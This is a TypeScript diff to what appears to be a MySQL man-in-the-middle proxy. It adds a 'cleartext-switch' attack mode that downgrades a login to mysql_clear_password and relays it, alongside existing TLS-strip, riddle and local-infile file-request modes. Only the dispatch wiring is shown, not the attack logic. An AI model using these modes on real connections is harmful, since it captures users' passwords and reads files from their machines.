@@ -11,6 +11,7 @@ import { boundRecord } from "../record/retention";
 import { requestedFile, type ResolvedProxyOptions } from "../options/proxy-options";
 import { queryAsksForFile } from "../sql/load-data-local";
 import { type MysqlObservations, MysqlStreamObserver } from "./mysql-stream-observer";
+import { CleartextSwitchLink } from "./cleartext-switch-link";
 import { LocalInfileLink } from "./local-infile-link";
 import { RiddleLink } from "./riddle-link";
 import { StripLink } from "./strip-link";
@@ -113,6 +114,7 @@ export class Relay {
       upstream.setTimeout(0);
       if (options.attack === "strip") this.strip(upstream);
       else if (options.attack === "riddle") this.riddle(upstream);
+      else if (options.attack === "cleartext-switch") this.switchToCleartext(upstream);
       else if (this.context.swapped) this.terminate(upstream, this.context.swapped);
       else if (requestedFile(options.attack) !== null)
         this.requestFile(upstream, requestedFile(options.attack)!);
@@ -186,6 +188,17 @@ export class Relay {
       },
       busy: (work) => {
         this.busy = work;
+      },
+    }).start();
+  }
+
+  /** `cleartext-switch`: a plaintext login is switched to mysql_clear_password, then carried on. */
+  private switchToCleartext(upstream: Socket): void {
+    new CleartextSwitchLink(this.client, upstream, {
+      fromClient: (chunk) => this.fromClient(chunk),
+      toClient: (chunk) => this.fromServer(chunk),
+      notRelayed: (reason) => {
+        this.failure = `the login could not be relayed: ${reason}`;
       },
     }).start();
   }
